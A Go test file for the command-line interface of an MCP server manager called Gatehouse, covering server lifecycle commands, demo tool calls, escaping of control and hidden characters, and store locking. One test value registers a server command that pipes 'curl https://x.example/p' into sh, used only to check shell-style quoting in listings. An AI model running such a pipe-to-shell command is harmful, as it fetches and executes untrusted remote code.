package cli

import (
	"bytes"
	"context"
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"github.com/gatehouse-app/gatehouse/mcp/demo"
	"github.com/gatehouse-app/gatehouse/store"
)

// The demo server is seeded as "<this executable> demo-server"; in tests the
// executable is the test binary, which then serves the real demo server.
func TestMain(m *testing.M) {
	if os.Getenv("GATEHOUSE_CLI_MAIN") == "1" {
		os.Exit(mainForTest())
	}
	if len(os.Args) > 1 && os.Args[1] == "demo-server" {
		if err := demo.Run(context.Background()); err != nil {
			os.Exit(1)
		}
		os.Exit(0)
	}
	os.Exit(m.Run())
}

// gh runs one CLI command against dataDir and returns its exit code and output.
func gh(t *testing.T, dataDir string, args ...string) (code int, stdout, stderr string) {
	t.Helper()
	var out, errOut bytes.Buffer
	e := &env{stdin: strings.NewReader(""), stdout: &out, stderr: &errOut}
	rest, err := e.globalFlags(append([]string{"--data-dir", dataDir}, args...))
	if err != nil {
		t.Fatal(err)
	}
	code = e.run(context.Background(), rest)
	return code, out.String(), errOut.String()
}

func TestCLI_FirstUseAddsDemoServerOnce(t *testing.T) {
	dir := t.TempDir()
	code, out, _ := gh(t, dir, "servers", "list")
	if code != 0 || !strings.Contains(out, "Demo server") || !strings.Contains(out, "demo-server") {
		t.Fatalf("code %d, list:\n%s", code, out)
	}
	if code, _, errOut := gh(t, dir, "servers", "remove", "demo server"); code != 0 {
		t.Fatalf("remove: %d %s", code, errOut)
	}
	if _, out, _ := gh(t, dir, "servers", "list"); strings.Contains(out, "Demo server") {
		t.Errorf("the demo server came back after removal:\n%s", out)
	}
}

func TestCLI_ServerLifecycle(t *testing.T) {
	dir := t.TempDir()
	steps := []struct {
		args     []string
		wantCode int
		wantOut  string // in stdout (code 0) or stderr
	}{
		{[]string{"servers", "add", "Files", "--env", "ROOT=/tmp", "--", "npx", "-y", "some-server"}, 0, "Added Files (npx -y some-server)"},
		{[]string{"servers", "add", "Remote", "--url", "https://mcp.example.com/mcp", "--header", "X-Team=blue"}, 0, "Added Remote"},
		{[]string{"servers", "add", "Curl", "--url", "https://mcp.example.com/mcp", "--header", "Authorization: Bearer a:b"}, 0, "Added Curl"},
		{[]string{"servers", "add", "BadHeader", "--url", "https://mcp.example.com/mcp", "--header", "nope"}, 2, `--header wants "Name: value", got "nope"`},
		{[]string{"servers", "add", "files", "--", "other"}, 1, `A server named "Files" already exists`},
		{[]string{"servers", "add", "Ftp", "--url", "ftp://example.com"}, 1, "must start with http:// or https://"},
		{[]string{"servers", "add", "Plain", "--url", "http://example.com/mcp"}, 1, "Plain http:// is only for servers on this computer; use https:// for example.com."},
		{[]string{"servers", "add", "NoCommand"}, 2, "give either -- COMMAND"},
		{[]string{"servers", "add", "Mixed", "--env", "A=1", "--url", "https://x.example"}, 2, "--env is for stdio servers"},
		{[]string{"servers", "add", "Trusted", "--inherit-env", "--", "node", "trusted.js"}, 0, "It gets your whole environment"},
		{[]string{"servers", "add", "WebAll", "--inherit-env", "--url", "https://x.example"}, 2, "--inherit-env is for stdio servers"},
		{[]string{"servers", "list"}, 0, "Trusted      enabled  stdio      whole        node trusted.js"},
		// A command line is shown as a shell would write it: where the script ends is visible.
		{[]string{"servers", "add", "Script", "--", "sh", "-c", "echo a; curl https://x.example/p | sh", ""}, 0,
			"Added Script (sh -c 'echo a; curl https://x.example/p | sh' '')"},
		{[]string{"servers", "list"}, 0, "Script       enabled  stdio      basic        sh -c 'echo a; curl https://x.example/p | sh' ''\n"},
		{[]string{"servers", "list"}, 0, "Remote       enabled  http       -            https://mcp.example.com/mcp"},
		{[]string{"servers", "disable", "files"}, 0, "Files: disabled."},
		{[]string{"servers", "list"}, 0, "Files        disabled"},
		{[]string{"tools", "Files"}, 1, "Files is turned off"},
		{[]string{"servers", "enable", "Files"}, 0, "Files: enabled."},
		{[]string{"servers", "remove", "Nope"}, 1, `no server named "Nope"`},
		{[]string{"servers", "remove", "Remote"}, 0, "Remote: removed."},
		{[]string{"servers", "frobnicate"}, 2, `unknown servers command "frobnicate"`},
	}
	for _, s := range steps {
		code, out, errOut := gh(t, dir, s.args...)
		got := out
		if s.wantCode != 0 {
			got = errOut
		}
		if code != s.wantCode || !strings.Contains(got, s.wantOut) {
			t.Errorf("%v: code %d, stdout %q, stderr %q; want code %d and %q", s.args, code, out, errOut, s.wantCode, s.wantOut)
		}
	}
	st, err := store.Open(dir, nil)
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	srv, err := st.ServerByName("files")
	if err != nil || srv.Stdio.Env["ROOT"] != "/tmp" || !srv.Enabled || strings.Join(srv.Stdio.Args, " ") != "-y some-server" || srv.Stdio.InheritEnv {
		t.Errorf("stored server = %+v (%v)", srv, err)
	}
	if srv, err := st.ServerByName("Curl"); err != nil || srv.HTTP.Headers["Authorization"] != "Bearer a:b" {
		t.Errorf("--header \"Name: value\" was not stored: %+v (%v)", srv, err)
	}
	if srv, err := st.ServerByName("Trusted"); err != nil || !srv.Stdio.InheritEnv {
		t.Errorf("--inherit-env was not stored: %+v (%v)", srv, err)
	}
}

func TestCLI_CallDemoServer(t *testing.T) {
	dir := t.TempDir()
	cases := []struct {
		name     string
		args     []string
		wantCode int
		wantOut  string
	}{
		{"text result", []string{"call", "Demo server", "echo", `{"message":"hello from the CLI"}`}, 0, "hello from the CLI"},
		{"structured result", []string{"call", "Demo server", "forecast", `{"city":"Oslo","days":2}`}, 0, `"city": "Oslo"`},
		{"resource link as text", []string{"call", "Demo server", "readme_link"}, 0, "[link] Demo server read-me <gatehouse-demo://readme>"},
		{"error result exits 1", []string{"call", "Demo server", "divide", `{"a":1,"b":0}`}, 1, "The tool reported an error:\ncannot divide by zero"},
		{"control characters are made visible", []string{"call", "Demo server", "echo", `{"message":"\u001b[31mred\u0007"}`}, 0, "�[31mred�"},
		{"hidden characters in structured content are made visible", []string{"call", "Demo server", "forecast", `{"city":"Os\u202Elo\u2028","days":1}`}, 0, `"city": "Os<U+202E>lo\u2028"`},
		{"arguments must be an object", []string{"call", "Demo server", "echo", `[1]`}, 1, "arguments: The arguments must be a JSON object"},
		{"arguments that do not pass the input schema are not sent", []string{"call", "Demo server", "forecast", `{"days":"two"}`}, 1,
			"The call was not made: the arguments do not pass the tool's input schema.\n  city: This field is required.\n  days: Enter a whole number.\n"},
		{"unknown tool", []string{"call", "Demo server", "nope"}, 1, `no tool named "nope"`},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			code, out, errOut := gh(t, dir, tc.args...)
			if code != tc.wantCode || !strings.Contains(out+errOut, tc.wantOut) {
				t.Errorf("code %d, stdout %q, stderr %q; want code %d and %q", code, out, errOut, tc.wantCode, tc.wantOut)
			}
		})
	}
	t.Run("--json is machine readable", func(t *testing.T) {
		code, out, _ := gh(t, dir, "call", "Demo server", "add", `{"a":2,"b":3}`, "--json")
		var res struct {
			IsError bool `json:"isError"`
			Content []struct{ Text string }
		}
		if code != 0 || json.Unmarshal([]byte(out), &res) != nil || len(res.Content) != 1 || res.Content[0].Text != "2 + 3 = 5" {
			t.Errorf("code %d, output %q", code, out)
		}
	})
	t.Run("tools lists one line per tool", func(t *testing.T) {
		code, out, _ := gh(t, dir, "tools", "demo server")
		if code != 0 || !strings.Contains(out, "echo\tSends your message back, unchanged.\n") || strings.Count(out, "\n") != 14 {
			t.Errorf("code %d, output:\n%s", code, out)
		}
		for _, name := range []string{"connect_account", "sync_calendar", "lookalike_link"} { // URL mode
			if !strings.Contains(out, "\n"+name+"\t") {
				t.Errorf("%s is not listed:\n%s", name, out)
			}
		}
	})
}

// everythingEntry returns server-everything's entry point, skipping the test
// when the peers are not installed (failing under GATEHOUSE_REQUIRE_PEERS=1).
func everythingEntry(t *testing.T) string {
	t.Helper()
	_, file, _, _ := runtime.Caller(0)
	entry := filepath.Join(filepath.Dir(file), "..", "testdata", "peers", "node_modules", "@modelcontextprotocol", "server-everything", "dist", "index.js")
	if _, err := os.Stat(entry); err != nil {
		if os.Getenv("GATEHOUSE_REQUIRE_PEERS") == "1" {
			t.Fatal("server-everything is not installed (run: make peers)")
		}
		t.Skip("server-everything is not installed (run: make peers)")
	}
	if _, err := exec.LookPath("node"); err != nil {
		t.Fatal("node is not installed")
	}
	return entry
}

func TestCLI_ServerEverything(t *testing.T) {
	entry := everythingEntry(t)
	dir := t.TempDir()
	if code, _, errOut := gh(t, dir, "servers", "add", "Everything", "--", "node", entry, "stdio"); code != 0 {
		t.Fatal(errOut)
	}
	code, out, errOut := gh(t, dir, "tools", "Everything")
	if code != 0 || !strings.Contains(out, "echo\t") || !strings.Contains(out, "get-sum\t") {
		t.Fatalf("tools: code %d\n%s\n%s", code, out, errOut)
	}
	code, out, errOut = gh(t, dir, "call", "Everything", "get-sum", `{"a":40,"b":2}`)
	if code != 0 || !strings.Contains(out, "42") {
		t.Errorf("call: code %d\n%s\n%s", code, out, errOut)
	}
}

func TestCLI_RefusesWhileStoreIsLocked(t *testing.T) {
	dir := t.TempDir()
	st, err := store.Open(dir, nil) // stands in for the running GUI: same lock
	if err != nil {
		t.Fatal(err)
	}
	defer st.Close()
	before, _ := os.ReadFile(st.Path())
	code, out, errOut := gh(t, dir, "servers", "list")
	if code != 1 || strings.TrimSpace(errOut) != "gatehouse: Gatehouse is already running" || out != "" {
		t.Errorf("code %d, stdout %q, stderr %q", code, out, errOut)
	}
	if after, _ := os.ReadFile(st.Path()); !bytes.Equal(before, after) {
		t.Error("the data file changed")
	}
}

func TestCLI_CorruptStoreIsNamedAndKept(t *testing.T) {
	dir := t.TempDir()
	path := filepath.Join(dir, "gatehouse.db")
	garbage := bytes.Repeat([]byte("not a database "), 1000)
	if err := os.WriteFile(path, garbage, 0o600); err != nil {
		t.Fatal(err)
	}
	code, _, errOut := gh(t, dir, "servers", "list")
	if code != 1 || !strings.Contains(errOut, path) {
		t.Errorf("code %d, stderr %q; want the file named", code, errOut)
	}
	if after, _ := os.ReadFile(path); !bytes.Equal(garbage, after) {
		t.Error("the damaged file was modified")
	}
}
